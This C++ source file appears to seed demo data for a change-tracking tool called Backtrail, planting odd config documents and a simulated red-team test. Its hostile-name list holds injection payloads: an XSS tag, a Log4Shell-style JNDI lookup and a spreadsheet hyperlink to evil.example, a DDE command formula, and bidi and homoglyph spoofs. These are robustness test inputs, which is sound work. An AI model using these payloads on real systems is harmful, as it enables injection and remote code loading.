// SPDX-FileCopyrightText: 2026 The Backtrail authors
// SPDX-License-Identifier: Apache-2.0

#include "app/demo/demostories.h"

#include <array>
#include <string>
#include <utility>

namespace Backtrail {

namespace {

// Documents that are not what one expects.
struct OddDocuments
{
    DemoDocument before;
    DemoDocument after;
};

std::string nested(int depth)
{
    std::string text = R"({"id": "deep", "rules": )";
    for (int i = 0; i < depth; ++i)
        text += R"({"all": [)";
    text += "true";
    for (int i = 0; i < depth; ++i)
        text += "]}";
    return text + '}';
}

std::vector<OddDocuments> oddDocuments()
{
    const std::string small = R"({"id": "d1", "name": "redis", "memory": 512, "created_at": 1769160331.264802})";
    const std::string other = R"({"id": "d1", "name": "redis", "memory": 768, "created_at": 1769160331.264802})";
    return {
        {std::string("Memory limit was 512 MB"), std::string("Memory limit set to 768 MB by the operator")},
        {{}, std::string("com.acme.ServiceUpdated(id=d1, memory=768)")},
        {small, other.substr(0, 41)}, // cut off on its way
        {{}, std::string("<html><body><h1>502 Bad Gateway</h1></body></html>")},
        {small, std::string()},
        {std::string(), other},
        {small, DemoDocument()},
        {DemoDocument::missing(), other},
        {small, DemoDocument::missing()},
        {DemoDocument::missing(), DemoDocument::missing()},
        {small, small},
        {std::string("{}"), std::string("{}")},
        {std::string("[]"), std::string(R"(["a", "b", {"c": [1, 2.5, -0.0, 1e9]}])")},
        {std::string("41"), std::string("42")},
        {std::string("null"), std::string("\"text\"")},
        {std::string(R"({"id": 9007199254740993, "rate": 0.1})"), std::string(R"({"id": 9007199254740995, "rate": 0.10})")},
        {std::string(R"({"key": "a", "key": "b"})"), std::string(R"({"key": "a", "key": "c"})")},
        {std::string(R"({"note": "before\u0000after", "half": "\ud83d"})"), std::string(R"({"note": "\u202egnp.exe", "half": "\ud83d\ude00"})")},
        {nested(40), nested(60)},
        {std::string("{\"a\": 1}"), std::string("{\"a\": [1]}")},
    };
}

void tellOdd(DemoSimulation &simulation, const OddDocuments &documents)
{
    const DemoObject &service = simulation.anyService("CONTAINER");
    DemoEvent &event = simulation.tell("UPDATE", service, simulation.anyPerson());
    event.subTargetType = "CONFIG";
    event.change = documents.after;
    event.originalChange = documents.before;
}

// Names that a tester of the security team gave to things, to see who believes them.
std::vector<std::string> hostileNames()
{
    return {
        "<img src=x onerror=alert(1)><b>DEPLOYED</b> <a href=\"file:///etc/passwd\">by root</a>",
        "invoice\u202egnp.exe",
        "\u0441heckout-api", // begins with a Cyrillic letter
        "\U0001f680 rocket \U0001f9d1\u200d\U0001f4bb \U0001f1eb\U0001f1f7",
        "tab\there\nand a line\x1b[31m red\x01\x7f",
        "zero\u200bwidth\u2060joiner\ufeff",
        "=HYPERLINK(\"http://evil.example\",\"open\")",
        "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
        "very-long-" + std::string(600, 'n') + "-name",
        "\u0627\u0644\u0625\u0646\u062a\u0627\u062c \u4e2d\u6587 Ωμέγα",
    };
}

void tellHostile(DemoSimulation &simulation, const std::string &name, std::size_t index)
{
    const bool isFormula = index % 4 == 3;
    const DemoActor tester {isFormula ? "=cmd|'/C calc'!A0" : "maxim@redteam.example", "API",
                            isFormula ? "<script>alert(1)</script>" : "curl/8.5.0"};
    DemoObject probe = simulation.anyService("APPLICATION");
    probe.id = simulation.random.uuid();
    probe.name = name;
    probe.parts = {{"CONFIG", DemoJson::object({{"id", probe.id}, {"name", name}, {"description", name},
                                                {"created_at", DemoJson::time(simulation.now())}})}};
    simulation.tellPart("CREATE", probe, probe.parts.front(), tester);
    simulation.in(90 * demoSecond, [probe, tester](DemoSimulation &later) {
        later.tellPart("DELETE", probe, probe.parts.front(), tester);
    });
}

// A values file of some 200 KB, in which a few lines change.
void editLargeValues(DemoSimulation &simulation, DemoObject &service)
{
    updatePart(simulation, service, service.parts.front(), simulation.world.people[2], [&](DemoJson &config) {
        const std::size_t bytes = 190'000 + simulation.random.below(20'000);
        // The same beginning each time: charts grow at their end.
        DemoRandom values(7);
        config.at("values_override").at("file").at("raw").set("content", helmValues(values, bytes));
        config.set("updated_at", DemoJson::time(simulation.now()));
    });
}

// An environment's whole file of settings as one variable: long, but nothing to diff it with.
void mountLargeFile(DemoSimulation &simulation)
{
    DemoObject &environment = simulation.world.environments.front();
    const std::string content = helmValues(simulation.random, 200'000);
    DemoPart part {"VARIABLE", variableDocument(simulation.random, "APP_CONFIG_FILE", content, false, environment,
                                                simulation.now())};
    part.document.set("mount_path", "/etc/app/config.yaml").set("variable_type", "FILE");
    simulation.tellPart("CREATE", environment, part, simulation.world.people[4]);
}

} // namespace

void plantOddities(DemoSimulation &simulation, std::int64_t fromNs, std::int64_t toNs)
{
    auto anywhere = [&] { return simulation.random.between(fromNs / 1000, (toNs - demoHour) / 1000) * 1000; };
    for (const OddDocuments &documents : oddDocuments())
        simulation.at(anywhere(), [documents](DemoSimulation &now) { tellOdd(now, documents); });

    // One afternoon's test, a week ago.
    const std::vector<std::string> names = hostileNames();
    for (std::size_t i = 0; i < names.size(); ++i) {
        const std::int64_t when = toNs - 7 * demoDay + static_cast<std::int64_t>(i) * 97 * demoSecond + 314'159'000;
        simulation.at(when, [name = names[i], i](DemoSimulation &now) { tellHostile(now, name, i); });
    }

    DemoObject &large = simulation.world.service("observability", "production", "kube-prometheus-stack");
    large.isScripted = true;
    for (int i = 0; i < 4; ++i)
        simulation.at(anywhere(), [&large](DemoSimulation &now) { editLargeValues(now, large); });
    simulation.at(anywhere(), mountLargeFile);
}

} // namespace Backtrail
